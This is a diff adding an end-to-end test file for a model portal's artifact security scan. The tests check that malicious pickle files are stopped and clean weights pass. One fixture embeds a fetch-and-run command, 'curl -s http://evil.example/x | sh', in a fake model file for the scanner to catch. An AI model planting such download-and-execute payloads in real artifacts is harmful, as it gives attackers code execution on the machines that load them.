@@ -1,0 +1,312 @@
+import { expect, test as base, type Page } from '@playwright/test';
+import { spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { type Portal, startPortal } from './harness';
+import { Api } from './support/api';
+import { expectAccessible } from './support/axe';
+import {
+  digestOf,
+  safetensors,
+  serveFiles,
+  withPayload,
+} from './support/modelFiles';
+import { People } from './support/people';
+import { createShots } from './support/shots';
+
+const GATE = 'Artifact security';
+const FILES = {
+  'helper.bin': withPayload('curl -s http://evil.example/x | sh'),
+  'helper.safetensors': safetensors(250_000),
+};
+
+/** A model whose artifact the test's own server holds. */
+const model = (
+  name: string,
+  title: string,
+  artifact: { uri: string; digest?: string },
+) => ({
+  apiVersion: 'modelhub.dev/v1alpha1',
+  kind: 'Model',
+  metadata: { namespace: 'probe', name, title },
+  spec: {
+    type: 'classifier',
+    lifecycle: 'active',
+    owner: 'group:default/ml-platform',
+    provider: 'probe',
+    gatewayId: `probe/${name}`,
+    license: { id: 'apache-2.0' },
+    useCases: { intended: ['Tests of the scan'] },
+    versions: [{ name: '1', artifact }],
+  },
+});
+
+interface World {
+  portal: Portal;
+  people: People;
+}
+
+/** A portal of its own: it may reach the server of the test. */
+const test = base.extend<object, World>({
+  portal: [
+    async ({}, use) => {
+      const server = await serveFiles(FILES);
+      const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'modelhub-probe-'));
+      const models = path.join(folder, 'models.yaml');
+      const at = (name: keyof typeof FILES) => ({
+        uri: `${server.url}/${name}`,
+        digest: digestOf(FILES[name]),
+      });
+      fs.writeFileSync(
+        models,
+        [
+          model('trojan', 'Helper with a secret', at('helper.bin')),
+          model('honest', 'Honest helper', at('helper.safetensors')),
+          model('gone', 'Helper that is gone', {
+            uri: `${server.url}/nothing.safetensors`,
+          }),
+        ]
+          .map(entity => JSON.stringify(entity))
+          .join('\n---\n'),
+      );
+      const config = path.join(folder, 'app-config.yaml');
+      const hosts = [server.host];
+      fs.writeFileSync(
+        config,
+        JSON.stringify({
+          modelGovernance: {
+            artifacts: {
+              allowedHosts: hosts,
+              privateHosts: hosts,
+              plainHosts: hosts,
+            },
+          },
+          catalog: {
+            locations: [path.resolve('catalog-info/all.yaml'), models].map(
+              target => ({ type: 'file', target }),
+            ),
+          },
+        }),
+      );
+      const portal = await startPortal({ configFiles: [config] });
+      await use(portal);
+      await portal.stop();
+      await server.close();
+      fs.rmSync(folder, { recursive: true, force: true });
+    },
+    { scope: 'worker', timeout: 180_000 },
+  ],
+  people: [
+    async ({ browser, portal }, use) => {
+      const people = new People(browser, portal);
+      await use(people);
+      await people.close();
+    },
+    { scope: 'worker' },
+  ],
+});
+
+/** Asks for a model in the browser; gives the row of the scan. */
+async function ask(
+  page: Page,
+  portal: Portal,
+  wanted: { model: string; version: string; tier: string; purpose: string },
+) {
+  const query = new URLSearchParams({
+    entityRef: `model:${wanted.model}`,
+    modelVersion: wanted.version,
+    purpose: wanted.purpose,
+    profile: 'customer-care',
+  });
+  await page.goto(`${portal.url}/model-governance/request?${query}`);
+  await page.getByRole('radio', { name: wanted.tier }).check();
+  await page
+    .getByLabel('Justification')
+    .fill('Short answers for the people of the desk.');
+  await page.getByRole('button', { name: 'Submit request' }).click();
+  await page.waitForURL(/\/model-governance\/approvals\/[\w-]{36}/);
+  return page.getByRole('article', { name: GATE });
+}
+
+/** The bytes of a document of the check, fetched with the keyboard. */
+async function fetchDocument(page: Page, name: RegExp): Promise<Buffer> {
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name }).focus();
+  await page.keyboard.press('Enter');
+  return fs.readFileSync(await (await download).path());
+}
+
+const sha256 = (bytes: Buffer) =>
+  `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
+
+test.describe('the scan of artifacts', () => {
+  test.describe.configure({ timeout: 5 * 60_000 });
+
+  test('stops a payload that hides, says where it is, and files the evidence', async ({
+    portal,
+    people,
+  }, testInfo) => {
+    const shot = createShots('artifact-scan', testInfo);
+    const { page: dana } = await people.as('Dana Developer');
+    const row = await ask(dana, portal, {
+      model: 'probe/trojan',
+      version: '1',
+      tier: 'Sandbox',
+      purpose: 'experimentation',
+    });
+    await expect(row.getByText('Failed')).toBeVisible({ timeout: 60_000 });
+    const findings = row.getByRole('table', {
+      name: 'Findings in the artifact',
+    });
+    const payload = findings
+      .getByRole('row')
+      .filter({ hasText: 'pickle-dangerous-import' });
+    await expect(payload).toContainText('critical, stops');
+    await expect(payload).toContainText('helper.bin');
+    await expect(payload).toContainText(/helper\/data\.pkl@\d+/);
+    await expect(payload).toContainText('posix.system');
+    await expect(row.getByText('As the catalog says.')).toBeVisible();
+    await expect(dana.getByText('Changes requested').first()).toBeVisible();
+    await row.scrollIntoViewIfNeeded();
+    await shot(dana, 'stopped');
+    await expectAccessible(dana, 'a scan that found something');
+
+    const bom = await fetchDocument(dana, /^Download ML-BOM/);
+    expect(JSON.parse(bom.toString())).toMatchObject({
+      bomFormat: 'CycloneDX',
+      metadata: {
+        component: {
+          type: 'machine-learning-model',
+          name: 'Helper with a secret',
+        },
+      },
+    });
+    const sarif = await fetchDocument(dana, /^Download SARIF/);
+    expect(JSON.parse(sarif.toString()).version).toBe('2.1.0');
+
+    // The ledger names what was filed.
+    const ada = await Api.as(portal, 'ada');
+    const { items } = await ada.call<{
+      items: Array<{ payload: { files: Record<string, string> } }>;
+    }>(
+      'GET',
+      `model-governance/ledger?${new URLSearchParams({
+        type: 'gate.evidence-filed',
+        entityRef: 'model:probe/trojan',
+      })}`,
+    );
+    expect(items).toHaveLength(1);
+    expect(items[0].payload.files).toMatchObject({
+      'bom.cdx.json': sha256(bom),
+      'scan.sarif': sha256(sarif),
+    });
+  });
+
+  test('answers as a scan on a laptop does', async ({
+    portal,
+    people,
+  }, testInfo) => {
+    const { page: dana } = await people.as('Dana Developer');
+    // The bytes were scanned before, for the same question or for another one.
+    const row = await ask(dana, portal, {
+      model: 'probe/trojan',
+      version: '1',
+      tier: 'Internal',
+      purpose: 'document-summarisation',
+    });
+    await expect(row.getByText('Failed')).toBeVisible({ timeout: 60_000 });
+    const { files } = JSON.parse(
+      (await fetchDocument(dana, /^Download JSON report/)).toString(),
+    );
+    const file = testInfo.outputPath('helper.bin');
+    fs.writeFileSync(file, FILES['helper.bin']);
+    const { stdout, status } = spawnSync(
+      process.execPath,
+      ['packages/cli/bin/modelhub', 'scan', '--json', file],
+      { encoding: 'utf8' },
+    );
+    expect(status).toBe(1);
+    const local = JSON.parse(stdout);
+    expect(local).toMatchObject({
+      verdict: 'malicious',
+      sha256: files[0].sha256,
+    });
+    expect(local.findings).toEqual(files[0].findings);
+  });
+
+  test('lets weights through that hold nothing else', async ({
+    portal,
+    people,
+  }, testInfo) => {
+    const shot = createShots('artifact-scan-good', testInfo);
+    const { page: dana } = await people.as('Dana Developer');
+    const row = await ask(dana, portal, {
+      model: 'probe/honest',
+      version: '1',
+      tier: 'Sandbox',
+      purpose: 'experimentation',
+    });
+    await expect(row.getByText('Passed')).toBeVisible({ timeout: 60_000 });
+    await expect(row.getByText('1 file, 977 KiB')).toBeVisible();
+    await expect(row.getByText(/^None: nothing in 1 file/)).toBeVisible();
+    await expect(dana.getByText('Approved').first()).toBeVisible();
+    await row.scrollIntoViewIfNeeded();
+    await shot(dana, 'passed');
+    await expectAccessible(dana, 'a scan that found nothing');
+  });
+
+  test('says what to do when the artifact cannot be had', async ({
+    portal,
+    people,
+  }, testInfo) => {
+    const shot = createShots('artifact-scan-gone', testInfo);
+    const { page: dana } = await people.as('Dana Developer');
+    const row = await ask(dana, portal, {
+      model: 'probe/gone',
+      version: '1',
+      tier: 'Sandbox',
+      purpose: 'experimentation',
+    });
+    await expect(row.getByText('Could not run')).toBeVisible({
+      timeout: 60_000,
+    });
+    await expect(row.getByText(/model's YAML/)).toBeVisible();
+    await expect(
+      row.getByRole('button', { name: `Run ${GATE} again` }),
+    ).toBeVisible();
+    await expect(dana.getByText('Approved')).toHaveCount(0);
+    await row.scrollIntoViewIfNeeded();
+    await shot(dana, 'could-not-run');
+  });
+
+  test("reads the demo's own model: what cannot run passes, a class nobody knows does not", async ({
+    portal,
+    people,
+  }, testInfo) => {
+    const shot = createShots('artifact-scan-demo', testInfo);
+    const { page: dana } = await people.as('Dana Developer');
+    const wanted = {
+      model: 'acme/ticket-router',
+      tier: 'Internal',
+      purpose: 'document-summarisation',
+    };
+    const good = await ask(dana, portal, { ...wanted, version: '1.1' });
+    await expect(good.getByText('Passed')).toBeVisible({ timeout: 60_000 });
+    await expect(good.getByText(/^3 files, /)).toBeVisible();
+    await expect(
+      dana.getByText('You asked for this, so somebody else has to decide.'),
+    ).toBeVisible();
+    await good.scrollIntoViewIfNeeded();
+    await shot(dana, 'version-1.1');
+
+    const old = await ask(dana, portal, { ...wanted, version: '1.0' });
+    await expect(old.getByText('Failed')).toBeVisible({ timeout: 60_000 });
+    await expect(
+      old.getByRole('row').filter({ hasText: 'pickle-unknown-import' }),
+    ).toContainText('acme_training.encoders.LabelEncoder');
+    await old.scrollIntoViewIfNeeded();
+    await shot(dana, 'version-1.0');
+  });
+});
